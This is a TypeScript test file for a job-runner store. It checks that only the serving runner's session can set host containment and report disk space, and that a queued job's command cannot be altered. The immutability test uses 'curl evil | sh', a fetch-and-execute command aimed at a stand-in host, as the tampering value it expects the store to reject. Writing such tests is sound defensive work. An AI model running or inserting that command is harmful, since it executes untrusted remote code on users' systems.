/**
 * What issue 15 asks of the store: each host's containment, set by its serving runner only and
 * listed with it; and a job's command that no writer can change once it is queued. And the free
 * disk space each runner reports for its host (issue 14, item 4).
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { givenHost } from './dispatch.js';
import { givenSession, withFixture, type Harness } from './harness.js';

export function exerciseContainment(harness: Harness): void {
  describe('containment', () => {
    test("records the serving runner's containment on its host and refuses it from any other session", () =>
      withFixture(harness, async ({ store }) => {
        const { session } = await givenHost(store);
        assert.equal((await store.hosts.list())[0]?.containment, null);
        const ref = '{"run":"0123456789ab","dirs":["/sys/fs/cgroup/memory/baton-0123456789ab"]}';
        const set = { name: 'box-1', containment: 'cgroup1', containmentRef: ref } as const;
        assert.equal(await store.hosts.setContainment({ ...set, session: session.id }), true);
        const stranger = await givenSession(store);
        const other = { ...set, session: stranger.id, containment: 'process-group' } as const;
        assert.equal(await store.hosts.setContainment(other), false);
        const [host] = await store.hosts.list();
        assert.equal(host?.containment, 'cgroup1');
        assert.equal(host?.containmentRef, ref);
        await store.sessions.end(session.id);
        assert.equal(await store.hosts.setContainment({ ...set, session: session.id }), false);
      }));

    test("keeps the free disk space the serving runner's heartbeat reports, and none from another session", () =>
      withFixture(harness, async ({ store }) => {
        const { session } = await givenHost(store);
        const [fresh] = await store.hosts.list();
        assert.equal(fresh?.diskFreeMb, null, 'unknown until a runner says');
        const disk = { freeMb: 512, totalMb: 100_000 };
        assert.equal(
          await store.hosts.heartbeat({ name: 'box-1', session: session.id, ramFreeMb: 1, disk }),
          true,
        );
        const stranger = await givenSession(store);
        const other = { freeMb: 1, totalMb: 1 };
        assert.equal(
          await store.hosts.heartbeat({ name: 'box-1', session: stranger.id, ramFreeMb: 1, disk: other }),
          false,
        );
        const [host] = await store.hosts.list();
        assert.equal(host?.diskFreeMb, 512);
        assert.equal(host?.diskTotalMb, 100_000);
      }));

    test("refuses to change a queued job's command, whoever writes, and lets its other fields move", () =>
      withFixture(harness, async ({ store, raw, param }) => {
        const { job } = await store.jobs.enqueue({ key: 'k', command: 'npm test' });
        await assert.rejects(
          raw.exec(`UPDATE jobs SET command = ${param(1)} WHERE id = ${param(2)}`, [
            'curl evil | sh',
            job.id,
          ]),
          /never changes/,
        );
        await raw.exec(`UPDATE jobs SET priority = ${param(1)} WHERE id = ${param(2)}`, [5, job.id]);
        const after = await store.jobs.get(job.id);
        assert.equal(after?.command, 'npm test');
        assert.equal(after?.priority, 5);
      }));
  });
}
